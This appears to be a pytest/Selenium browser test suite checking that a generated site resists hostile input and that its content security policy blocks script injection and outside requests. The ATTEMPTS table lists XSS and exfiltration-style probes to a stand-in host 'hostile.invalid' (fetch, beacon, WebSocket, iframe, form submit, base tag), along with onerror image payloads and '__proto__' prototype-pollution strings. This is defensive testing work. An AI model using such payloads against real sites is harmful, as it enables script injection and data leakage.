"""The hostile campaign's site in a browser: nothing runs, reaches out or breaks, and the policy holds."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from selenium.webdriver import Chrome, Keys
from selenium.webdriver.common.by import By

from tests.browser.chromium import address, messages, outside, requests, wait_for
from tests.hostile_campaign import hostile_ids, hostile_plan
from tests.hostile_site import hostile_folder

pytestmark = pytest.mark.browser

SCRIPTED = """
  const DRAWN = '.live, [id^=js-plotly]';
  return { ran: window.ran, foreign: Object.keys(window).filter(k => /^(ran|climbed|polluted)$/.test(k)),
           inherited: ({}).polluted, handlers: [...document.querySelectorAll('*')].filter(e =>
             e.getAttributeNames().some(n => n.startsWith('on') || n === 'style' && !e.closest(DRAWN))
           ).map(e => e.outerHTML.slice(0, 120)),
           scripts: [...document.scripts].map(s => s.src).filter(s => !s.startsWith('file://')),
           dialogs: window.dialogs || [] };
"""
"""What a payload would have left behind."""
ALARM = """
  window.dialogs = [];
  for (const n of ['alert', 'confirm', 'prompt', 'open']) window[n] = () => dialogs.push(n);
"""
USED = """
  const event = (e, type) => e.dispatchEvent(new MouseEvent(type, { bubbles: true, view: window }));
  for (const e of document.querySelectorAll('main *')) {
    for (const type of ['mouseover', 'pointerover']) event(e, type);
  }
  for (const e of document.querySelectorAll('main input, main a, main button')) { e.focus(); e.blur(); }
  for (const list of document.querySelectorAll('main select')) {
    for (const option of [...list.options].slice(0, 9)) {
      list.value = option.value;
      for (const type of ['input', 'change']) list.dispatchEvent(new Event(type, { bubbles: true }));
    }
  }
  for (const button of document.querySelectorAll('.tools button, thead button')) {
    if (!/SVG|PNG|link/.test(button.textContent)) button.click();
  }
"""
"""A reader who points at everything, chooses everything and presses every button but those that save."""


@pytest.fixture(scope="module")
def hostile() -> Path:
    """Folder of the hostile campaign's site."""
    return hostile_folder()


def kinds_of(site: Path) -> list[str]:
    """Every numbered page and note, and the modules and sensors with the worst names."""
    names = sorted(path.name for path in site.glob("*.html"))
    ids = hostile_ids(hostile_plan())
    assert len(ids.modules) == 6
    few = [n for n in names if n.startswith("sensor-")][::6]
    return [n for n in names if not n.startswith(("sensor-", "method-"))] + few


def left_behind(browser: Chrome) -> dict[str, object]:
    """What a payload left, but for nothing at all."""
    found = browser.execute_script(SCRIPTED)
    return {key: value for key, value in found.items() if value}


def test_nothing_of_the_hostile_texts_runs_reaches_out_or_breaks(browser: Chrome, hostile: Path) -> None:
    script = browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": ALARM})
    try:
        for name in kinds_of(hostile):
            browser.get(address(hostile / name))
            figures = browser.find_elements(By.CSS_SELECTOR, "figure[data-figure]")
            for figure in figures[:2]:
                browser.execute_script("arguments[0].scrollIntoView()", figure)
                wait_for(lambda f=figure: f.get_attribute("data-state") == "live", f"a live figure of {name}")
            browser.execute_script(USED)
            assert left_behind(browser) == {}, name
            assert messages(browser) == [], name
            assert outside(requests(browser), hostile) == [], name
            assert browser.current_url.split("#")[0] == address(hostile / name)
    finally:
        browser.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", script)


def test_a_module_of_any_name_can_be_chosen_and_is_marked_alone(browser: Chrome, hostile: Path) -> None:
    browser.get(address(hostile / "calibration.html"))
    for module in hostile_ids(hostile_plan()).modules.values():
        browser.execute_script("window.campaign.choose(arguments[0], '')", module)
        marked = browser.execute_script(
            "return [...new Set([...document.querySelectorAll('.marked')].map(e => e.dataset.module))]"
        )
        assert marked == [module]
        link = browser.execute_script(
            "return window.campaign.writeView('figure-lines', {xaxis: [1, 2]}, window.campaign.chosen())"
        )
        browser.get("about:blank")
        browser.get(address(hostile / "calibration.html") + link)
        chosen = wait_for(
            lambda: browser.execute_script("return window.campaign.chosen().module"), "a choice"
        )
        assert chosen == module
    assert messages(browser) == []


def test_an_address_cannot_make_the_scripts_do_what_the_page_does_not_offer(
    browser: Chrome, hostile: Path
) -> None:
    marks = ("#x?mark=__proto__", "#x?mark=constructor,toString")
    for part in (*marks, "#<img src=x onerror=window.ran=1>", "#%E0%A4%A"):
        for name in ("residuals.html", "budget.html", "index.html"):
            browser.get("about:blank")
            browser.get(address(hostile / name) + part)
            assert left_behind(browser) == {}
            assert messages(browser) == []
            assert outside(requests(browser), hostile) == []


ADD = "const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));"
BLOB = "URL.createObjectURL(new Blob(['window.ran = 1; self.postMessage && postMessage(1)']))"
ATTEMPTS = {
    "inline script": "add('script', { textContent: 'window.ran = 1' });",
    "script from a blob": f"add('script', {{ src: {BLOB} }});",
    "script from data": "add('script', { src: 'data:text/javascript,window.ran=1' });",
    "script from outside": "add('script', { src: 'https://hostile.invalid/x.js' });",
    "module": "add('script', { type: 'module', textContent: 'window.ran = 1' });",
    "handler": "add('div', { innerHTML: '<img src=\"data:,\" onerror=\"window.ran=1\">' });",
    "eval": "window.setTimeout('window.ran = 1', 0);",
    "fetch": "fetch('https://hostile.invalid/f').catch(() => 0);",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'https://hostile.invalid/r'); r.send();",
    "beacon": "navigator.sendBeacon('https://hostile.invalid/b', 'x');",
    "socket": "new WebSocket('wss://hostile.invalid/w');",
    "picture": "add('img', { src: 'https://hostile.invalid/p.png' });",
    "frame": "add('iframe', { src: 'https://hostile.invalid/' });",
    "object": "add('object', { data: 'https://hostile.invalid/' });",
    "style": "add('div', { innerHTML: '<style>h1{display:none}</style><b style=\"color:red\">x</b>' });",
    "style sheet": "add('link', { rel: 'stylesheet', href: 'https://hostile.invalid/c.css' });",
    "font": "new FontFace('x', 'url(https://hostile.invalid/x.woff)').load().catch(() => 0);",
    "worker": f"new Worker({BLOB}).onmessage = () => {{ window.ran = 1; }};",
    "form": "add('form', { action: 'https://hostile.invalid/s' }); [...document.forms].pop().submit();",
    "base": "add('base', { href: 'https://hostile.invalid/' });",
}
"""Ways to break a content policy, by name; each would set ``window.ran``, reach out or hide the title."""


@pytest.mark.parametrize("attempt", list(ATTEMPTS))
def test_the_policy_stops_every_attempt(browser: Chrome, hostile: Path, attempt: str) -> None:
    browser.get(address(hostile / "index.html"))
    requests(browser)
    browser.execute_script(
        "window.refused = [];"
        "document.addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective));"
    )
    browser.execute_script(
        f"{ADD} try {{ {ATTEMPTS[attempt]} }} catch (fault) {{ window.fault = String(fault); }}"
    )
    wait_for(lambda: browser.execute_script("return window.refused.length"), f"a refusal of {attempt}", 10)
    assert browser.execute_script("return window.ran") is None
    assert browser.find_element(By.TAG_NAME, "h1").is_displayed()
    assert browser.execute_script("return document.baseURI").startswith("file://")
    assert let_through(browser) == []


def let_through(browser: Chrome) -> list[str]:
    """Addresses outside that were asked for; those that the policy stopped are logged as failed for it."""
    asked, stopped = {}, set()
    for entry in browser.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        told = message["params"]
        if message["method"] == "Network.requestWillBeSent":
            asked[told["requestId"]] = told["request"]["url"]
        elif message["method"] == "Network.webSocketCreated":
            asked[told["requestId"]] = told["url"]
        elif message["method"] == "Network.loadingFailed" and told.get("blockedReason") == "csp":
            stopped.add(told["requestId"])
    return [url for key, url in asked.items() if key not in stopped and re.match("https?:|wss?:", url)]


def test_hostile_texts_typed_into_controls_stay_texts(browser: Chrome, hostile: Path) -> None:
    sensor = next(path.name for path in sorted(hostile.glob("sensor-*.html")))
    for name in (sensor, "planning.html", "budget.html"):
        browser.get(address(hostile / name))
        for entry in browser.find_elements(By.CSS_SELECTOR, "main input")[:6]:
            if entry.is_displayed() and entry.get_attribute("type") in ("text", "number"):
                entry.send_keys(Keys.HOME, "<img src=x onerror=window.ran=1>", Keys.ENTER)
        assert left_behind(browser) == {}
        assert messages(browser) == []
        assert outside(requests(browser), hostile) == []
